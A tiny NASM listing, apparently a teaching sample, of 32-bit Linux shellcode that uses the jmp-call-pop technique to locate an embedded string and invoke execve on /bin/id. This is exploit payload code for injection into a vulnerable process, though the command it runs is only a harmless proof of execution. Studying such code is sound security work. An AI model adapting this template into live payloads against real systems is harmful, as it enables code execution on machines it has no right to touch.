; Linux, 32 bit: execve("/bin/id") with the string behind a call, found by jmp, call, pop.
bits 32
        jmp short string
code:   pop esi
        xor eax, eax
        mov [esi + 7], al
        mov [esi + 8], esi
        mov [esi + 12], eax
        mov ebx, esi
        lea ecx, [esi + 8]
        lea edx, [esi + 12]
        mov al, 11
        int 80h
string: call code
        db '/bin/id#AAAABBBB'
